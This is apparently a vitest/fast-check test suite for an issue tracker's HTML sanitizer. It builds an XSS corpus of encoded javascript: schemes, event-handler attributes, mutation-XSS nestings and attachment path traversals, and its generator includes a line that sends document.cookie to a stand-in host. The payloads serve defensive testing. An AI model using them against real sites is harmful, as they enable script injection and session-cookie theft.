/**
 * The rich-text sanitizer (lib/sanitize.ts):
 * - a property test (fast-check) over generated XSS markup — tags, attributes, URL schemes and
 *   their encodings — whose output is re-parsed (htmlparser2) and checked for event handlers,
 *   forbidden elements, unsafe URLs and link `rel`;
 * - a source scan that fails when code writes a rich-text column without importing the sanitizer;
 * - API tests: issue descriptions and comment bodies are stored and returned sanitized.
 */
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import { Parser } from 'htmlparser2';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { RICH_TEXT_COLUMNS, sanitizeRichText } from '../src/lib/sanitize.ts';
import { api, createTestApp, createWorkspace, signIn, type SignedIn, type TestApp } from './helpers.ts';

// ---------------------------------------------------------------------------------------------
// The oracle
// ---------------------------------------------------------------------------------------------

const ALLOWED_TAGS = new Set([
  'p', 'br', 'hr', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'blockquote', 'pre', 'code', 'ul', 'ol', 'li', 'strong', 'b', 'em',
  'i', 'u', 's', 'del', 'mark', 'sub', 'sup', 'a', 'img', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'span', 'div', 'label',
  'input',
]);
const RASTER_DATA = /^data:image\/(png|jpeg|gif|webp|avif);base64,[a-z0-9+/=\s]+$/i;

/** What a browser would see as the URL: control characters and spaces removed, as the URL parser does. */
function urlAsBrowserReadsIt(v: string): string {
  return v.replace(/[\u0000-\u0020\u007f]+/g, '').toLowerCase();
}

/** Problems an output has (empty when safe). */
function unsafeParts(html: string): string[] {
  const problems: string[] = [];
  if (/<\s*\/?\s*(script|svg|iframe|object|embed|math|style|base|link|meta|form|frame|template)\b/i.test(html)) {
    problems.push('raw forbidden tag text');
  }
  const parser = new Parser(
    {
      onopentag(name, attribs) {
        if (!ALLOWED_TAGS.has(name)) problems.push(`element <${name}>`);
        for (const [k, v] of Object.entries(attribs)) {
          if (/^on/i.test(k)) problems.push(`handler ${k}`);
          if (k === 'style' || k === 'srcset' || k.includes(':')) problems.push(`attribute ${k}`);
          const u = urlAsBrowserReadsIt(v);
          if (k === 'href') {
            const scheme = /^([a-z][a-z0-9+.-]*):/.exec(u)?.[1];
            if (scheme && !['http', 'https', 'mailto'].includes(scheme)) problems.push(`href scheme ${scheme}`);
            if (!scheme && (u.startsWith('//') || u.startsWith('/\\') || u.startsWith('\\'))) problems.push(`protocol-relative href ${v}`);
          }
          if (k === 'src') {
            const ok = u.startsWith('https://') || RASTER_DATA.test(v) || /^\/api\/v1\/attachments\/[\w.-]+(\/[\w.-]+)*$/.test(v);
            if (!ok || v.includes('..')) problems.push(`src ${v}`);
          }
        }
        if (name === 'a' && attribs.rel !== 'noopener noreferrer nofollow') problems.push(`link rel ${attribs.rel}`);
        if (name === 'a' && attribs.target !== undefined && attribs.target !== '_blank') problems.push(`target ${attribs.target}`);
      },
    },
    { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true },
  );
  parser.write(html);
  parser.end();
  return problems;
}

// ---------------------------------------------------------------------------------------------
// The generator: an XSS corpus built from parts
// ---------------------------------------------------------------------------------------------

const payload = fc.constantFrom('alert(1)', 'alert(document.cookie)', 'fetch(`//evil.example?c=${document.cookie}`)');
const scheme = fc.constantFrom(
  'javascript:', 'JaVaScRiPt:', 'java&#x09;script:', 'java&#9;script:', 'jav&#x0A;ascript:', 'jav\tascript:', 'java\u0000script:',
  '&#106;avascript:', '&#x6A;avascript:', 'javascript&colon;', ' javascript:', '\u0001javascript:', 'vbscript:', 'livescript:',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==,', 'data:text/html,<script>', 'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+,',
  'data:application/javascript,', 'file:///', 'blob:', 'x-javascript:', '//evil.example/', '/\\evil.example/', '\\\\evil.example\\', 'https:&#x2f;&#x2f;',
  'https://ok.example/', 'http://ok.example/', 'mailto:', 'data:image/png;base64,iVBORw0KGgo=#', '/api/v1/attachments/../../', '/api/v1/attachments/a%2f..%2f',
);
const url = fc.tuple(scheme, payload).map(([s, p]) => s + p);
const tag = fc.constantFrom(
  'a', 'img', 'script', 'SCRIPT', 'ScRiPt', 'svg', 'iframe', 'object', 'embed', 'math', 'style', 'form', 'input', 'button', 'p', 'div', 'span',
  'video', 'audio', 'source', 'base', 'link', 'meta', 'details', 'template', 'noscript', 'xmp', 'textarea', 'title', 'table', 'td', 'select',
  'marquee', 'frameset', 'animate', 'set', 'use', 'image', 'foreignObject', 'mglyph', 'code', 'pre', 'label', 'li',
);
const attrName = fc.constantFrom(
  'href', 'src', 'xlink:href', 'action', 'formaction', 'srcset', 'data', 'background', 'poster', 'style', 'onerror', 'onload', 'onclick',
  'ONMOUSEOVER', 'onfocus', 'onbegin', 'autofocus', 'class', 'title', 'data-type', 'target', 'rel', 'type', 'checked', 'values', 'to',
);
const attrValue = fc.oneof(url, payload, fc.constantFrom('x', 'checkbox', '_top', 'opener', 'language-js', 'background:url(javascript:alert(1))'), fc.string({ maxLength: 12 }));
const quote = fc.constantFrom('"', "'", '');
const attr = fc.tuple(attrName, quote, attrValue).map(([n, q, v]) => (q === '' ? `${n}=${v.replace(/[\s>]/g, '')}` : `${n}=${q}${v.replaceAll(q, '')}${q}`));
const text = fc.constantFrom('hello', '&lt;script&gt;', '<!-- <script>alert(1)</script> -->', '<![CDATA[<script>alert(1)</script>]]>', '</p>', ']]>', '"\'><img src=x onerror=alert(1)>');

const { markup } = fc.letrec<{ markup: string; element: string }>((tie) => ({
  element: fc
    .tuple(tag, fc.array(attr, { maxLength: 4 }), fc.array(tie('markup'), { maxLength: 2 }), fc.boolean())
    .map(([t, attrs, inner, closed]) => `<${t}${attrs.map((a) => ` ${a}`).join('')}>${inner.join('')}${closed ? `</${t}>` : ''}`),
  markup: fc.oneof({ depthSize: 'small', withCrossShrink: true }, text, tie('element'), tie('element')),
}));

/** Hand-written classics, always included. */
const CLASSICS = [
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(1)">',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg onload=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<a href="https://ok.example" target="_top" rel="opener">ok</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="/api/v1/attachments/../../api/v1/auth/sign-out">',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<input type="image" src="javascript:alert(1)" onfocus="alert(1)" autofocus>',
  '<details open ontoggle=alert(1)>',
  '<a href="/\\evil.example">x</a>',
];

describe('sanitizeRichText: property test over an XSS corpus', () => {
  it('removes every classic payload', () => {
    for (const c of CLASSICS) expect(unsafeParts(sanitizeRichText(c)), c).toEqual([]);
  });

  it('never outputs an event handler, a forbidden element, an unsafe URL or a link without rel', () => {
    fc.assert(
      fc.property(fc.array(markup, { minLength: 1, maxLength: 4 }), (parts) => {
        const input = parts.join('');
        const out = sanitizeRichText(input);
        const problems = unsafeParts(out);
        if (problems.length) throw new Error(`${problems.join('; ')}\ninput: ${input}\noutput: ${out}`);
      }),
      { numRuns: 3000, seed: Number(process.env.FC_SEED ?? 20261129) },
    );
  });

  it('is idempotent: sanitizing sanitized HTML changes nothing', () => {
    fc.assert(
      fc.property(markup, (input) => {
        const once = sanitizeRichText(input);
        expect(sanitizeRichText(once)).toBe(once);
      }),
      { numRuns: 1000, seed: 7 },
    );
  });

  it('the oracle itself flags unsafe markup (so the property can fail)', () => {
    expect(unsafeParts('<img src=x onerror=alert(1)>')).toEqual(expect.arrayContaining(['handler onerror', 'src x']));
    expect(unsafeParts('<a href="java&#x09;script:alert(1)">x</a>')).toContain('href scheme javascript');
    expect(unsafeParts('<svg></svg>')).toContain('element <svg>');
    expect(unsafeParts('<a href="https://x">x</a>')).toContain('link rel undefined');
  });

  it('keeps the formatting the editor produces', () => {
    const doc =
      '<h2>Plan</h2><p>Some <strong>bold</strong>, <em>em</em>, <code>x</code> and <a href="https://example.com/a?b=1">a link</a>.</p>' +
      '<ul data-type="taskList"><li data-type="taskItem" data-checked="true"><input type="checkbox" checked>done</li></ul>' +
      '<pre><code class="language-ts">const a = 1 &lt; 2;</code></pre><img src="https://cdn.example.com/a.png" alt="A">' +
      '<img src="/api/v1/attachments/0190f6a0-0000-7000-8000-000000000001/shot.png" alt="B">';
    expect(sanitizeRichText(doc)).toBe(
      '<h2>Plan</h2><p>Some <strong>bold</strong>, <em>em</em>, <code>x</code> and <a href="https://example.com/a?b=1" rel="noopener noreferrer nofollow">a link</a>.</p>' +
        '<ul data-type="taskList"><li data-type="taskItem" data-checked="true"><input type="checkbox" disabled="disabled" checked="checked" />done</li></ul>' +
        '<pre><code class="language-ts">const a = 1 &lt; 2;</code></pre><img src="https://cdn.example.com/a.png" alt="A" />' +
        '<img src="/api/v1/attachments/0190f6a0-0000-7000-8000-000000000001/shot.png" alt="B" />',
    );
    expect(sanitizeRichText('   ')).toBe('');
    expect(sanitizeRichText('<script>alert(1)</script>')).toBe('');
  });
});

// ---------------------------------------------------------------------------------------------
// Source scan: every writer of a rich-text column imports the sanitizer
// ---------------------------------------------------------------------------------------------

const SRC = path.resolve(import.meta.dirname, '../src');

function sourceFiles(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((e) => {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) return sourceFiles(p);
    return e.name.endsWith('.ts') && !e.name.endsWith('.test.ts') ? [p] : [];
  });
}

/**
 * Rich-text columns a source file writes: a Drizzle `.insert(t)`/`.update(t)` whose values are an
 * object literal naming the property, or are built elsewhere in a file that names the property;
 * or raw SQL `insert into t` / `update t … column`.
 */
export function richTextWrites(source: string): string[] {
  const found: string[] = [];
  for (const c of RICH_TEXT_COLUMNS) {
    const drizzle = new RegExp(`\\.(insert|update)\\(\\s*${c.tableExport}\\s*\\)([\\s\\S]*?)(;|$)`, 'g');
    const key = new RegExp(`[{,\\s]${c.property}\\s*[:,}]`);
    for (const m of source.matchAll(drizzle)) {
      const stmt = m[2] ?? '';
      const literal = /\.(values|set)\(\s*\{/.test(stmt);
      if (literal ? key.test(stmt) : key.test(source)) found.push(`${c.table}.${c.column}`);
    }
    const sqlWrite = new RegExp(`(insert\\s+into|update)\\s+"?${c.table}"?\\b[\\s\\S]{0,400}?\\b${c.column}\\b`, 'i');
    if (sqlWrite.test(source)) found.push(`${c.table}.${c.column}`);
  }
  return [...new Set(found)];
}

const importsSanitizer = (source: string) => /import\s*\{[^}]*\bsanitize(RichText|Optional)\b[^}]*\}\s*from\s*['"][./]*(\.\.\/)*lib\/sanitize(\.ts)?['"]/.test(source);

describe('rich-text columns are written only through the sanitizer', () => {
  it('every source file that writes one imports sanitizeRichText (or sanitizeOptional)', () => {
    const offenders: string[] = [];
    const writers: string[] = [];
    for (const file of sourceFiles(SRC)) {
      const source = readFileSync(file, 'utf8');
      const writes = richTextWrites(source);
      if (!writes.length) continue;
      const rel = path.relative(SRC, file);
      writers.push(rel);
      if (!importsSanitizer(source)) offenders.push(`${rel} writes ${writes.join(', ')} without importing sanitizeRichText`);
    }
    expect(offenders).toEqual([]);
    expect(writers).toEqual(expect.arrayContaining(['modules/issues/issues.write.ts', 'modules/comments/comments.service.ts']));
  });

  it('the scan recognises writers and the import (so it can fail)', () => {
    expect(richTextWrites('await tx.insert(issue).values({ id, title, description: input.description });')).toEqual(['issue.description']);
    expect(richTextWrites('await tx.update(comment).set({ body, updatedAt: now }).where(x);')).toEqual(['comment.body']);
    expect(richTextWrites('const row = { description: d };\nawait tx.insert(issue).values(row);')).toEqual(['issue.description']);
    expect(richTextWrites("await db.execute(sql`update issue set description = ${d} where id = ${id}`);")).toEqual(['issue.description']);
    expect(richTextWrites('await tx.update(issue).set({ stateId, updatedAt: now }).where(x);')).toEqual([]);
    expect(importsSanitizer("import { sanitizeRichText } from '../../lib/sanitize.ts';")).toBe(true);
    expect(importsSanitizer("import { sanitizeOptional, RICH_TEXT_COLUMNS } from '../../lib/sanitize.ts';")).toBe(true);
    expect(importsSanitizer("import { escapeHtml } from '../../lib/text.ts';")).toBe(false);
  });
});

// ---------------------------------------------------------------------------------------------
// Through the API
// ---------------------------------------------------------------------------------------------

describe('API: issue descriptions and comment bodies are stored sanitized', () => {
  let t: TestApp;
  let alice: SignedIn;
  const XSS =
    '<p onclick="alert(1)">Hi<script>alert(2)</script> <a href="javascript:alert(3)">bad</a> <a href="https://ok.example">ok</a></p>' +
    '<img src=x onerror=alert(4)><svg onload=alert(5)></svg><iframe src="https://evil.example"></iframe>';
  const CLEAN = '<p>Hi <a rel="noopener noreferrer nofollow">bad</a> <a href="https://ok.example" rel="noopener noreferrer nofollow">ok</a></p>';

  beforeAll(async () => {
    t = await createTestApp();
    alice = await signIn(t, 'alice@example.com');
    await createWorkspace(t, alice, 'Acme');
  });
  afterAll(async () => t?.close());

  it('sanitizes an issue description on create and on update', async () => {
    const created = await api(t.app, 'POST', '/api/v1/issues', { as: alice, body: { teamId: 'ENG', title: 'XSS', description: XSS } });
    expect(created.status).toBe(201);
    expect(created.body.description).toBe(CLEAN);
    const read = await api(t.app, 'GET', `/api/v1/issues/${created.body.id}`, { as: alice });
    expect(read.body.description).toBe(CLEAN);
    const updated = await api(t.app, 'PATCH', `/api/v1/issues/${created.body.id}`, {
      as: alice,
      body: { description: '<a href="JaVaScRiPt:alert(1)" onmouseover="x">y</a><img src="data:image/svg+xml;base64,PHN2Zz4=">' },
    });
    expect(updated.status).toBe(200);
    expect(updated.body.description).toBe('<a rel="noopener noreferrer nofollow">y</a>');
  });

  it('sanitizes a comment body on create and on edit', async () => {
    const issue = await api(t.app, 'POST', '/api/v1/issues', { as: alice, body: { teamId: 'ENG', title: 'Comments' } });
    const c = await api(t.app, 'POST', `/api/v1/issues/${issue.body.id}/comments`, { as: alice, body: { body: XSS } });
    expect(c.status).toBe(201);
    expect(c.body.body).toBe(CLEAN);
    const list = await api(t.app, 'GET', `/api/v1/issues/${issue.body.id}/comments`, { as: alice });
    expect(list.body.data[0].body).toBe(CLEAN);
    const edited = await api(t.app, 'PATCH', `/api/v1/comments/${c.body.id}`, {
      as: alice,
      body: { body: '<p>edited</p><a href="java&#x09;script:alert(1)">z</a><object data="x"></object>' },
    });
    expect(edited.status).toBe(200);
    expect(edited.body.body).toBe('<p>edited</p><a rel="noopener noreferrer nofollow">z</a>');
  });
});
